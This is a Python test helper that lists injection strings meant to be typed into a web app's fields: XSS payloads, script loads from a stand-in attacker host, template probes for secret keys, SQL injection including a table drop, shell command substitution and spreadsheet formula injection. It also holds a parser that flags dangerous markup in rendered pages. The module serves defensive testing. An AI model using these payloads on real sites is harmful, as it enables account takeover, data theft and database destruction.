"""Strings that somebody may write into any field to do harm on another's page."""

from __future__ import annotations

from html.parser import HTMLParser

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '<script type="module">alert(1)</script>',
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
]
_EVENTS = [
    f"<{tag} {event}=alert(1){rest}>"
    for tag, rest in (("img src=x", ""), ("svg", ""), ("details open", ""), ("b", ""))
    for event in ("onerror", "onload", "ontoggle", "onmouseover", "onfocus autofocus")
]
_ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "x onclick=alert(1)",
    '"/onload=alert(1)//',
    "` onmouseover=`alert(1)",
    '" style="position:fixed;inset:0',
    '" formaction="//evil.example',
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/@localhost",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
]
_ELEMENTS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{{7*7}}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}",
    '{% include "home/home.html" %}',
    "{% csrf_token %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s",
    "%s%s%s%n",
    "{0.__class__}",
    "$(id)",
    "`id`",
]
_QUERIES = [
    "'; DROP TABLE people_user; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "\\'; --",
    "') UNION SELECT NULL --",
    "%' OR 1=1 --",
]
_CELLS = [
    "=1+1",
    '=HYPERLINK("//evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
_LETTERS = [
    "\u202egpj.exe",
    "\u2066left\u2069",
    "a\u200bb\u200dc",
    "e\u0301\u0301\u0301\u0301\u0301",
    "\ufeffbom",
    "ﷺ" * 10,
    "👩‍👩‍👧‍👧",
    "\U000e0041\U000e0042",
    "\u0130\u0131\u017f\u212a",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028line",
    "ñandú \u2013 «hormiga»",
    "عنوان طويل",
]
_LONG = ["W" * 119, "<b>" * 39, "ab " * 39, "&" * 119]

HOSTILE = [
    *_SCRIPTS,
    *_EVENTS,
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_ELEMENTS,
    *_TEMPLATES,
    *_QUERIES,
    *_CELLS,
    *_LETTERS,
    *_LONG,
]
"""Each at most 119 characters, so that even a name has room for it."""

_OURS = {
    "html",
    "head",
    "meta",
    "title",
    "link",
    "body",
    "a",
    "svg",
    "g",
    "path",
    "ellipse",
    "circle",
    "rect",
    "header",
    "nav",
    "form",
    "input",
    "button",
    "main",
    "div",
    "p",
    "h1",
    "h2",
    "h3",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "footer",
    "section",
    "strong",
    "em",
    "code",
    "label",
    "select",
    "option",
    "optgroup",
    "textarea",
    "span",
    "details",
    "summary",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "caption",
    "progress",
    "time",
    "fieldset",
    "legend",
    "output",
    "pre",
    "small",
    "script",
    "br",
    "hr",
    "iframe",
    "meter",
    "template",
}


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.shown: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.shown += given.values()
        if tag not in _OURS:
            self.dangers.append(f"<{tag}>")
        if tag == "script" and not (given.get("nonce") or given.get("src")):
            self.dangers.append("<script> without a nonce")
        for name, value in given.items():
            is_place = name in {"href", "src", "action", "formaction", "data"}
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.dangers.append(f"{tag} {name}={value}")
            if is_place and not (_is_local(value) or value.startswith("http")):
                self.dangers.append(f"{tag} {name}={value}")
            if is_place and "evil.example" in value:
                self.dangers.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.shown.append(data)


def _is_local(address: str | None) -> bool:
    text = address or ""
    return text == "" or text[0] in "#?" or (text[0] == "/" and text[1:2] != "/")


def read(page: str) -> tuple[list[str], str]:
    """Give what could do harm on a page, and all that a reader sees of it."""
    reader = _Page()
    reader.feed(page)
    reader.close()
    return reader.dangers, "\n".join(reader.shown)
